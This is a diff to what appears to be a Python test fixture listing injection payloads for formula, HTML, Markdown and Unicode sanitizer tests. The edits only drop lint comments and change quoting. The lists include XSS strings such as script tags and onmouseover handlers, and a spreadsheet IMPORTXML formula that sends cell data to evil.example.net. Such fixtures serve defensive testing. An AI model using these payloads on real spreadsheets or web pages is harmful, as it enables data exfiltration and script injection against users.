@@ -84,7 +84,7 @@ FORMULAS = (
     "\t=1+1",
     "\r=1+1",
     "'=1+1",
-    "＝1+1",  # noqa: RUF001 - the wide sign is the point
+    "＝1+1",
     '=IFERROR(IMPORTXML(CONCAT("http://evil.example.net/?", A1), "//a"), "")',
     "{=1+1}",
     "=A1&\r\n=B1",
@@ -110,12 +110,12 @@ HTML = (
     "<!-- --!> <b>x</b> -->",
     "<!--[if mso]><b>x</b><![endif]-->",
     "--><script>alert(1)</script><!--",
-    "\"><script>alert(1)</script>",
+    '"><script>alert(1)</script>',
     "' onmouseover='alert(1)",
     '" style="x" class="button',
     "<scr<script>ipt>alert(1)</script>",
     "<ScRiPt\x00>alert(1)</sCrIpT>",
-    "＜script＞alert(1)＜/script＞",  # noqa: RUF001 - the wide signs are the point
+    "＜script＞alert(1)＜/script＞",
     "<a href=&#106;avascript:alert(1)>x</a>",
     "&#60;script&#62;alert(1)&#60;/script&#62;",
     "&lt;script&gt;",
@@ -157,7 +157,7 @@ MARKDOWN = (
     f"[x]\n\n[x]: {EVIL}",
     f"[x]: {EVIL}",
     f"[x]: <{EVIL}> (title)",
-    f"x](https://evil.example.net) [y",
+    "x](https://evil.example.net) [y",
     f"]({EVIL})",
     "[[nested](a)](b)",
     f"![x]({EVIL}/pixel.png)",
@@ -208,6 +208,6 @@ SIGNS = (
     "a\xa0b\u3000c\u2003d",
     "\U000e0041\U000e0042tags",
     "\ufffd\ufffe\uffff\U0010ffff x",
-    "«comillas» “quotes” ‘single’ ¿qué? ¡sí!",  # noqa: RUF001 - as people type them
+    "«comillas» “quotes” ‘single’ ¿qué? ¡sí!",
 )
 PAYLOADS = tuple(dict.fromkeys((*VALUES, *HEADERS, *LINES, *FORMULAS, *HTML, *JINJA, *MARKDOWN, *SIGNS)))
